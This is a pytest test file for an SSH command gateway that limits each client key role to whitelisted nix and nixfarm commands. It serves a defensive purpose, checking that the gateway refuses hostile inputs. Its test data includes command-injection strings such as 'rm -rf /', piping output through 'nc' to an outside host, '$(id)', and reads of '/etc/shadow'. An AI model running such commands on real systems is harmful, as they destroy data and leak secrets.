"""The gateway's rules, as pure functions: what a client key may run, and nothing else."""

from __future__ import annotations

import re

import pytest

from nixfarm.builder import gateway
from nixfarm.builder.gateway import (
    MAX_COMMAND_BYTES,
    ROLES,
    Decision,
    allowed_summary,
    check_session,
    decide,
    split_command,
    validate_invocation,
)
from nixfarm.common.errors import RefusedError, UsageError

METRICS_COMMANDS = [
    ("nixfarm metrics", Decision("metrics", ("nixfarm", "metrics"), output_format="json")),
    ("nixfarm metrics --json", Decision("metrics", ("nixfarm", "metrics", "--json"), "json")),
    (
        "nixfarm metrics --prometheus",
        Decision("metrics", ("nixfarm", "metrics", "--prometheus"), output_format="prometheus"),
    ),
    ("nixfarm stream", Decision("stream", ("nixfarm", "stream"), interval=5.0)),
    (
        "nixfarm stream --interval 2",
        Decision("stream", ("nixfarm", "stream", "--interval", "2"), interval=2.0),
    ),
]
NIX_COMMANDS = [
    ("nix-daemon --stdio", Decision("exec", ("nix-daemon", "--stdio"))),
    ("nix-store --serve", Decision("exec", ("nix-store", "--serve"))),
    ("nix-store --serve --write", Decision("exec", ("nix-store", "--serve", "--write"))),
]
SHELL_CHARACTERS = [*";&|$`()<>*?~!{}[]'\"\\", "\n", "\t", "\r", "\x00"]
# Refused for every role; the message must say what is allowed instead.
REFUSED_FOR_ALL = [
    ("nix-daemon --stdio --store /tmp/x", r"command 'nix-daemon' is not allowed \(allowed: "),
    ("nix-daemon", r"command 'nix-daemon' is not allowed \(allowed: "),
    ("nix-daemon --daemon", r"command 'nix-daemon' is not allowed \(allowed: "),
    ("nix-store --serve --write --foo", r"command 'nix-store' is not allowed \(allowed: "),
    ("nix-store --write --serve", r"command 'nix-store' is not allowed \(allowed: "),
    ("nix-store --gc", r"command 'nix-store' is not allowed \(allowed: "),
    ("nixfarm metrics --config /etc/shadow", r"nixfarm metrics takes --json or --prometheus"),
    ("nixfarm metrics --json --prometheus", r"nixfarm metrics takes --json or --prometheus"),
    ("nixfarm metrics --json --json", r"nixfarm metrics takes --json or --prometheus"),
    ("nixfarm metrics json", r"nixfarm metrics takes --json or --prometheus"),
    ("nixfarm stream --interval 0", r"nixfarm stream takes only --interval SECONDS \(0\.2 to 3600"),
    ("nixfarm stream --interval 99999", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval nan", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval inf", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval -1", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval 0.1", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval 3600.5", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval two", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval=2", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm stream --interval 2 --interval 3", r"nixfarm stream takes only --interval"),
    ("nixfarm stream --count 1", r"nixfarm stream takes only --interval SECONDS"),
    ("nixfarm gc", r"nixfarm gc takes one of --status, --dry-run, --now"),
    ("nixfarm frobnicate", r"nixfarm frobnicate is not allowed \(allowed: "),
    ("nixfarm agent", r"nixfarm agent is not allowed \(allowed: "),
    ("nixfarm gateway --client x --role admin", r"nixfarm gateway is not allowed \(allowed: "),
    ("nixfarm --config /etc/shadow metrics", r"nixfarm --config is not allowed \(allowed: "),
    ("nixfarm", r"command 'nixfarm' is not allowed \(allowed: "),
    ("/usr/bin/nix-daemon --stdio", r"command '/usr/bin/nix-daemon' is not allowed \(allowed: "),
    ("/run/current-system/sw/bin/nixfarm metrics", r"command '/run/current-system/sw/bin/nixfarm'"),
    ("scp -t /tmp", r"command 'scp' is not allowed \(allowed: "),
    ("scp -f /etc/shadow", r"command 'scp' is not allowed \(allowed: "),
    ("internal-sftp", r"command 'internal-sftp' is not allowed \(allowed: "),
    ("/usr/lib/openssh/sftp-server", r"command '/usr/lib/openssh/sftp-server' is not allowed"),
    ("sh -c id", r"command 'sh' is not allowed \(allowed: "),
    ("git-upload-pack /srv/repo", r"command 'git-upload-pack' is not allowed \(allowed: "),
]


@pytest.fixture
def no_tty(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make fd 0 look like no terminal, however pytest was started."""
    monkeypatch.setattr(gateway.os, "isatty", lambda fd: False)


# split_command


def test_interactive_login_is_refused() -> None:
    with pytest.raises(RefusedError, match=r"interactive login is not allowed"):
        split_command(None)


@pytest.mark.parametrize("char", SHELL_CHARACTERS)
def test_shell_characters_are_refused(char: str) -> None:
    with pytest.raises(RefusedError, match=rf"character {re.escape(repr(char))} is not allowed"):
        split_command(f"nixfarm metrics {char}x")


@pytest.mark.parametrize(
    "command",
    [
        "nix-daemon --stdio; rm -rf /",
        "nix-daemon --stdio && id",
        "nixfarm metrics | nc example.org 80",
        "nixfarm metrics $(id)",
        "nixfarm metrics `id`",
        "nixfarm metrics > /etc/passwd",
        "nixfarm metrics\nid",
        "nixfarm stream --interval ${IFS}2",
        "nix-store --serve --write\x00--foo",
    ],
)
def test_injection_attempts_are_refused(command: str) -> None:
    with pytest.raises(RefusedError, match=r"is not allowed: commands are argv words, not shell"):
        split_command(command)


@pytest.mark.parametrize(
    "command", ["nixfarm m\u00e9trics", "nixfarm metrics \udcff", "nixfarm\u00a0metrics"]
)
def test_non_ascii_is_refused(command: str) -> None:
    """Including bytes that were not UTF-8 (os.environ decodes them as surrogates)."""
    with pytest.raises(RefusedError, match=r"is not allowed"):
        split_command(command)


def test_one_mebibyte_command_is_refused_for_length() -> None:
    with pytest.raises(RefusedError, match=r"command too long \(1048576 bytes; at most 4096\)"):
        split_command("a" * (1 << 20))


def test_length_is_checked_before_characters() -> None:
    with pytest.raises(RefusedError, match=r"command too long \(1048576 bytes"):
        split_command(";" * (1 << 20))


def test_length_is_counted_in_bytes() -> None:
    with pytest.raises(RefusedError, match=r"command too long \(4098 bytes"):
        split_command("é" * 2049)


def test_command_of_exactly_the_maximum_length_is_split() -> None:
    command = "nixfarm metrics" + " " * (MAX_COMMAND_BYTES - len("nixfarm metrics"))
    assert len(command) == MAX_COMMAND_BYTES
    assert split_command(command) == ["nixfarm", "metrics"]
    with pytest.raises(RefusedError, match=r"command too long \(4097 bytes"):
        split_command(command + " ")


@pytest.mark.parametrize("command", ["", " ", "    "])
def test_empty_command_is_refused(command: str) -> None:
    with pytest.raises(RefusedError, match=r"^empty command$"):
        split_command(command)


def test_split_on_runs_of_spaces() -> None:
    assert split_command("  nix-store   --serve --write ") == ["nix-store", "--serve", "--write"]


# decide


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize(("command", "expected"), METRICS_COMMANDS)
def test_every_role_may_read_metrics(role: str, command: str, expected: Decision) -> None:
    assert decide(split_command(command), role) == expected


@pytest.mark.parametrize("role", ["build", "admin"])
@pytest.mark.parametrize(("command", "expected"), NIX_COMMANDS)
def test_build_and_admin_may_run_nix(role: str, command: str, expected: Decision) -> None:
    assert decide(split_command(command), role) == expected


@pytest.mark.parametrize(("command", "_expected"), NIX_COMMANDS)
def test_metrics_role_may_not_run_nix(command: str, _expected: Decision) -> None:
    with pytest.raises(
        RefusedError, match=rf"'{command}' needs the build role; this key has the metrics role"
    ):
        decide(split_command(command), "metrics")


@pytest.mark.parametrize(("command", "_expected"), METRICS_COMMANDS + NIX_COMMANDS)
def test_admin_may_run_everything_build_may(command: str, _expected: Decision) -> None:
    argv = split_command(command)
    assert decide(argv, "admin") == decide(argv, "build")


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize(("command", "message"), REFUSED_FOR_ALL)
def test_other_commands_are_refused(role: str, command: str, message: str) -> None:
    with pytest.raises(RefusedError, match=message):
        decide(split_command(command), role)


@pytest.mark.parametrize(("value", "expected"), [("0.2", 0.2), ("3600", 3600.0), ("1.5", 1.5), ("30", 30.0)])
def test_stream_interval_bounds_are_inclusive(value: str, expected: float) -> None:
    decision = decide(split_command(f"nixfarm stream --interval {value}"), "metrics")
    assert decision.action == "stream"
    assert decision.interval == expected


def test_refusal_names_the_allowed_commands_for_the_role() -> None:
    with pytest.raises(RefusedError) as metrics_refusal:
        decide(["nixfarm", "frobnicate"], "metrics")
    assert "allowed: nixfarm metrics, nixfarm stream, nixfarm gc --status, nixfarm accounts)" in str(
        metrics_refusal.value
    )
    with pytest.raises(RefusedError) as build_refusal:
        decide(["nixfarm", "frobnicate"], "build")
    assert "nix-daemon --stdio" in str(build_refusal.value)
    assert "nix-store --serve --write" in str(build_refusal.value)


def test_allowed_summary_per_role() -> None:
    metrics = "nixfarm metrics, nixfarm stream, nixfarm gc --status, nixfarm accounts"
    assert allowed_summary("metrics") == metrics
    build = allowed_summary("build")
    for command in (
        "nixfarm metrics",
        "nixfarm stream",
        "nix-daemon --stdio",
        "nix-store --serve",
        "nix-store --serve --write",
    ):
        assert command in build
    assert allowed_summary("admin").startswith(build)
    assert "nixfarm gc --now" in allowed_summary("admin")
    assert "nixfarm gc --now" not in build


# gc


@pytest.mark.parametrize("role", ["metrics", "build", "admin"])
@pytest.mark.parametrize("json_flag", [[], ["--json"]])
def test_every_role_may_read_gc_status(role: str, json_flag: list[str]) -> None:
    d = decide(["nixfarm", "gc", "--status", *json_flag], role)
    assert (d.action, d.gc_action) == ("gc", "status")
    assert d.output_format == ("json" if json_flag else "text")


@pytest.mark.parametrize("action", ["--now", "--dry-run"])
@pytest.mark.parametrize("role", ["metrics", "build"])
def test_gc_control_needs_the_admin_role(action: str, role: str) -> None:
    with pytest.raises(
        RefusedError,
        match=f"'nixfarm gc {action}' needs the admin role; this key has the {role} role",
    ):
        decide(["nixfarm", "gc", action], role)


def test_admin_may_run_gc_with_a_target() -> None:
    d = decide(["nixfarm", "gc", "--now", "--target-free", "32M", "--json"], "admin")
    assert (d.gc_action, d.target_free, d.output_format) == ("now", 32 << 20, "json")
    assert decide(["nixfarm", "gc", "--dry-run"], "admin").target_free is None


@pytest.mark.parametrize(
    "options",
    [
        ["--now", "--dry-run"],
        ["--status", "--status"],
        ["--now", "--json", "--json"],
        ["--now", "--target-free"],
        ["--now", "--target-free", "lots"],
        ["--now", "--config", "/etc/shadow"],
        ["--now", "--target-free", "1M", "--target-free", "2M"],
        [],
    ],
)
def test_bad_gc_options_are_refused(options: list[str]) -> None:
    with pytest.raises(RefusedError):
        decide(["nixfarm", "gc", *options], "admin")


# validate_invocation


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("client", ["alice", "ci-runner.01", "A_b-c.d", "0", "x" * 64])
def test_valid_invocations(client: str, role: str) -> None:
    validate_invocation(client, role)  # raises UsageError if refused


@pytest.mark.parametrize(
    "client", ["", "-x", ".hidden", "_x", "a b", "a/b", "a;b", "x" * 65, "caf\u00e9", "x\n", "a:b"]
)
def test_bad_client_names_are_usage_errors(client: str) -> None:
    with pytest.raises(UsageError, match=rf"^--client {re.escape(repr(client))}: use letters") as e:
        validate_invocation(client, "build")
    assert not isinstance(e.value, RefusedError)
    assert e.value.exit_code == 2


@pytest.mark.parametrize("role", ["", "root", "Build", "build ", "builder", "metrics,admin"])
def test_unknown_roles_are_usage_errors(role: str) -> None:
    with pytest.raises(
        UsageError, match=rf"^--role {re.escape(repr(role))}: must be one of build, metrics, admin$"
    ):
        validate_invocation("alice", role)


# check_session


def test_plain_session_is_accepted(no_tty: None) -> None:
    environ = {
        "SSH_ORIGINAL_COMMAND": "nix-daemon --stdio",
        "SSH_CONNECTION": "10.0.0.2 40000 10.0.0.1 22",
        "SSH_CLIENT": "10.0.0.2 40000 22",
        "USER": "nixfarm",
        "HOME": "/var/empty",
    }
    check_session(environ)  # raises RefusedError if refused


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("SSH_AUTH_SOCK", "/run/user/0/ssh-agent.sock", r"agent forwarding is not allowed"),
        ("SSH_TTY", "/dev/pts/3", r"a terminal was requested"),
        ("DISPLAY", "localhost:10.0", r"X11 forwarding is not allowed"),
    ],
)
def test_forwarding_and_terminals_are_refused(name: str, value: str, message: str, no_tty: None) -> None:
    with pytest.raises(RefusedError, match=message):
        check_session({"SSH_ORIGINAL_COMMAND": "nixfarm metrics", name: value})


def test_terminal_on_stdin_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(gateway.os, "isatty", lambda fd: fd == 0)
    with pytest.raises(RefusedError, match=r"a terminal was requested"):
        check_session({})


def test_only_the_given_environ_is_checked(monkeypatch: pytest.MonkeyPatch, no_tty: None) -> None:
    monkeypatch.setenv("SSH_AUTH_SOCK", "/run/agent.sock")
    monkeypatch.setenv("DISPLAY", ":0")
    check_session({})  # raises RefusedError if it looked at os.environ


@pytest.mark.parametrize("role", ["metrics", "build", "admin"])
@pytest.mark.parametrize(
    ("command", "since"),
    [
        ("nixfarm accounts", None),
        ("nixfarm accounts --json", None),
        ("nixfarm accounts --since 12h", 12 * 3600.0),
        ("nixfarm accounts --json --since 7d", 7 * 86400.0),
        ("nixfarm accounts --since 90", 90.0),
    ],
)
def test_every_role_may_read_the_accounts(command: str, since: float | None, role: str) -> None:
    decision = decide(split_command(command), role)
    assert (decision.action, decision.since) == ("accounts", since)


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("nixfarm accounts --since", "takes only --json and --since DURATION"),
        ("nixfarm accounts --since 0", "out of range"),
        ("nixfarm accounts --since 12y", "not a duration"),
        ("nixfarm accounts --since -5m", "not a duration"),
        ("nixfarm accounts --since 1d --since 2d", "takes only"),
        ("nixfarm accounts --all", "takes only"),
    ],
)
def test_accounts_refuses_anything_else(command: str, message: str) -> None:
    with pytest.raises(RefusedError, match=message):
        decide(split_command(command), "build")
